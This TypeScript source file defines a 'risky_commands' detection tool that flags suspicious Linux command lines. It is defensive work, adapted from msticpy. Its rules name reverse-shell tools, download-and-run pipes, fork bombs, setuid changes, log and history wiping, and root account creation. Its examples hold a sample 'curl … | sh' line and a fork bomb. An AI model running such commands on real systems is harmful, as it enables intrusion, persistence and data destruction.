import { defineEach, type EachTool } from '../define-tool.ts';

const input = {
  command: {
    type: 'string',
    about: 'A command line of Linux.',
    usual: ['Command', 'CommandLine', 'ProcessCommandLine', 'cmd', 'SyslogMessage'],
  },
} as const;

const output = {
  risk: { type: 'string', about: 'What the command may be for.' },
  risk_line: { type: 'string', about: 'The line in which it was found.' },
} as const;

/**
 * A line that has one of the texts of each step, one step after the other; `dense` looks past blanks, `past` are texts
 * that say nothing of it.
 */
interface Rule {
  risk: string;
  steps: readonly (readonly string[])[];
  dense?: boolean;
  past?: readonly string[];
}

const shells = ['| sh', '|sh', '| bash', '|bash', '| sudo bash', '| sudo sh'];
const writes = ['>', 'tee ', 'cp ', 'mv ', 'ln ', 'install ', 'sed -i', 'vi ', 'vim ', 'nano '];
const rules: readonly Rule[] = [
  { risk: 'login keys', steps: [['authorized_keys']] },
  { risk: 'download and run', steps: [['wget', 'curl'], ['sh']] },
  { risk: 'fork bomb', steps: [[':(){:|:&};:']], dense: true },
  { risk: 'moved to nowhere', steps: [['mv'], ['/dev/null']] },
  { risk: 'interactive shell', steps: [['/bin/bash']] },
  { risk: 'network shell', steps: [['/dev/tcp/', '/dev/udp/']] },
  {
    risk: 'network shell',
    steps: [
      ['nc ', 'ncat ', 'netcat '],
      [' -e ', ' -c '],
    ],
  },
  { risk: 'decoded and run', steps: [['base64'], [' -d', ' --decode'], shells] },
  { risk: 'set user id', steps: [['chmod'], ['+s', ' 4755', ' 4777']] },
  { risk: 'preloaded library', steps: [['LD_PRELOAD=', '/etc/ld.so.preload']] },
  {
    risk: 'history removed',
    steps: [['history -c', 'unset HISTFILE', 'HISTSIZE=0', '.bash_history']],
  },
  { risk: 'scheduled task', steps: [['crontab']], past: ['/etc/crontab', 'crontab -l'] },
  { risk: 'scheduled task', steps: [writes, ['/etc/cron', '/var/spool/cron']] },
  {
    risk: 'root account',
    steps: [
      ['useradd', 'usermod'],
      [' -u 0', '-o -u', ' -G sudo', ' -aG sudo'],
    ],
  },
  { risk: 'logs removed', steps: [['rm ', 'shred '], ['/var/log']] },
  { risk: 'passwords read', steps: [['/etc/shadow']] },
];

function follows({ steps, dense, past = [] }: Rule, line: string): boolean {
  const looked = past.reduce((rest, harmless) => rest.replaceAll(harmless, ' '), line);
  const text = dense ? looked.replace(/\s/g, '') : looked;
  let from = 0;
  for (const needles of steps) {
    const ends = needles.flatMap((needle) => {
      const at = text.indexOf(needle, from);
      return at === -1 ? [] : [at + needle.length];
    });
    if (ends.length === 0) return false;
    from = Math.min(...ends);
  }
  return true;
}

/** Lines of a command that are looked at. */
const mostLines = 1000;

const riskyCommands: EachTool<typeof input, Record<never, never>, typeof output> = defineEach({
  name: 'risky_commands',
  about: 'What a command line of Linux may be for, where that is seldom harmless.',
  source:
    'msticpy.transform.cmd_line.risky_cmd_line, its five rules first. Differs: every line of a command is looked at, each rule that holds gives a row, blanks do not hide a fork bomb, and ten rules more.',
  passesOver: 'Commands that no rule holds for have no row.',
  input,
  parameters: {},
  output,
  entities: ['Process'],
  tellsFacts: true,
  each: ({ command }) => {
    const lines = command.split('\n', mostLines);
    const seen = new Set<string>();
    return rules.flatMap((rule) => {
      const line = seen.has(rule.risk) ? undefined : lines.find((l) => follows(rule, l));
      if (line === undefined) return [];
      seen.add(rule.risk);
      return [{ risk: rule.risk, risk_line: line }];
    });
  },
  examples: [
    {
      query:
        'datatable(Command: string)["curl -s http://203.0.113.9/x | sh", "ls -l", ":(){ :|:& };:"] | invoke risky_commands() | project risk',
      rows: [['download and run'], ['fork bomb']],
    },
    {
      query:
        'datatable(Command: string)["cd / && run-parts --report /etc/cron.hourly", "crontab -l", "cat /etc/crontab", "(crontab -l; echo x) | crontab -", "echo x >> /etc/cron.d/x"] | invoke risky_commands() | project Command, risk',
      rows: [
        ['(crontab -l; echo x) | crontab -', 'scheduled task'],
        ['echo x >> /etc/cron.d/x', 'scheduled task'],
      ],
    },
  ],
});

export default riskyCommands;
